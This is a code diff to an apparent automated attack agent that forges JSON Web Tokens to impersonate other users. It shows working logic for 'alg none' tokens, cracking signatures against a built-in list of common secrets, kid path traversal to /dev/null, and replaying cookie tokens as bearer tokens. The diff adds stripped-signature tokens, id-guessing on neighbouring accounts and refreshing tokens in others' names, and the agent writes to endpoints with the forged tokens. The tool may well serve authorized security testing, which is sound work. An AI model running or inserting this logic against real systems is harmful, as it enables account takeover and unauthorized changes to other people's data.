@@ -1,9 +1,10 @@
 // jwt-forgery: takes its own token and makes it another's: claims changed under the old signature,
 // no signature and "alg": "none", an empty key, keys that everybody uses, found by signing what the
 // token says and comparing, a public key as if it were a shared one, and a key id that leads the
-// app to a key of the attacker's (RFC 8725, 2.1, 3.1 and 3.10; OWASP JSON Web Token Cheat Sheet). A
-// token for renewing is renewed in another's name. Where the attack names endpoints that write,
-// they are written to as well.
+// app to a key of the attacker's (RFC 8725, 2.1, 3.1 and 3.10; OWASP JSON Web Token Cheat Sheet).
+// Where a cookie's token is believed in Authorization, too, it is forged there as well. A token for
+// renewing is renewed in another's name. Where the attack names endpoints that write, they are
+// written to as well.
 #include <algorithm>
 
 #include "core/attack/every_agent.h"
@@ -35,6 +36,8 @@ constexpr std::string_view kKeys =
     "api-secret,private,private-key,privatekey,signing-key,signing-secret,hmac-secret,"
     "hs256,foo,bar,foobar,example,demo,node,express,shhh,shhhh";
 constexpr int kIdsAround = 4;
+constexpr std::size_t kDigitsOfField = 4;
+constexpr std::string_view kBetweenFields = ".:|~,;!";
 constexpr char kKeyIsKnown[] = "The signing key is in every dictionary: \"";
 
 // Where "kid" ends up in SQL or in a path, the key is what the attacker says, or an empty file
@@ -53,7 +56,7 @@ constexpr std::string_view kEmptyFiles[] = {"/dev/null", "../../../../../../../.
 class JwtForgery final : public Agent {
     void run(Target& target) override {
         std::vector<std::string> const published = public_keys(target);
-        Credentials const own = own_credentials(target);
+        Credentials const own = with_bearers(target, own_credentials(target));
         for (Credential const& each : own) {
             auto const jwt = read_jwt(each.value);
             if (is_for_refresh(each)) continue;
@@ -72,7 +75,20 @@ class JwtForgery final : public Agent {
         renew_as_others(target);
     }
 
-    // A token that the app has put together itself.
+    // Cookies' tokens that the app believes in Authorization, too, perhaps less well looked at.
+    static Credentials with_bearers(Target& target, Credentials own) {
+        for (std::size_t i = 0, cookies = own.size(); i < cookies; ++i) {
+            if (own[i].kind != Credential::Kind::Cookie || !read_jwt(own[i].value)) continue;
+            Credentials bearer{own[i]};
+            bearer.front().kind = Credential::Kind::Token;
+            Credential const shown = bearer.front();
+            if (keep_busy(target, bearer)) own.push_back(shown);
+        }
+        return own;
+    }
+
+    // A token that the app has put together itself. A signature of no length is equal to as much of
+    // the right one.
     static void forge_by_hand(Target& target, Credential const& each) {
         auto const own = SignedText::read(each.value);
         if (!own) return;
@@ -80,7 +96,9 @@ class JwtForgery final : public Agent {
         std::erase_if(keys, [&](std::string const& key) { return !own->is_signed_with(key); });
         if (!keys.empty()) target.note(std::string(kKeyIsKnown) + keys.front() + "\".");
         for (std::string const& claims : claims_of_others(target, own->says())) {
-            try_out(target, each, own->saying(claims));
+            std::string const forged = own->saying(claims);
+            try_out(target, each, forged);
+            try_out(target, each, forged.substr(0, forged.rfind('.') + 1));
             for (std::string const& key : keys) try_out(target, each, own->saying(claims, key));
         }
     }
@@ -161,7 +179,23 @@ class JwtForgery final : public Agent {
         }
         for (std::string_view id : {"sub", "id", "userId", "uid", "user", "accountId"})
             for (std::string& each : with_ids_around(own, id)) all.push_back(std::move(each));
+        if (!own.starts_with('{')) append_other_fields(target, own, all);
         return all;
+    }
+
+    // Of a text that is no JSON: a field that is his name, or a short number as ids are.
+    static void append_other_fields(Target const& target, std::string const& own,
+                                    std::vector<std::string>& all) {
+        for (std::size_t at = 0; at < own.size();) {
+            std::size_t const end = std::min(own.find_first_of(kBetweenFields, at), own.size());
+            std::string const field = own.substr(at, end - at);
+            std::vector<std::string> others;
+            if (field == target.surface().attacker.username) others = target.surface().usernames;
+            if (field.size() <= kDigitsOfField) others = ids_around(field);
+            for (std::string const& other : others)
+                all.push_back(own.substr(0, at) + other + own.substr(end));
+            at = end + 1;
+        }
     }
 
     static std::vector<std::string> with_ids_around(std::string const& claims,
@@ -170,15 +204,19 @@ class JwtForgery final : public Agent {
         std::string text = member(claims, name).value_or("");
         bool const is_text = text.starts_with('"');
         std::erase(text, '"');
-        bool const is_number = !text.empty() && text.size() < 9 &&
-                               text.find_first_not_of("0123456789") == std::string::npos;
+        for (std::string const& id : ids_around(text))
+            all.push_back(with_member(claims, name, is_text ? "\"" + id + "\"" : id));
+        return all;
+    }
+
+    static std::vector<std::string> ids_around(std::string const& own_id) {
+        std::vector<std::string> all;
+        bool const is_number = !own_id.empty() && own_id.size() < 9 &&
+                               own_id.find_first_not_of("0123456789") == std::string::npos;
         if (!is_number) return all;
-        int const own = std::atoi(text.c_str());
-        for (int id = std::max(0, own - kIdsAround); id <= own + kIdsAround; ++id) {
-            if (id == own) continue;
-            std::string const value = std::to_string(id);
-            all.push_back(with_member(claims, name, is_text ? "\"" + value + "\"" : value));
-        }
+        int const own = std::atoi(own_id.c_str());
+        for (int id = std::max(0, own - kIdsAround); id <= own + kIdsAround; ++id)
+            if (id != own) all.push_back(std::to_string(id));
         return all;
     }
 
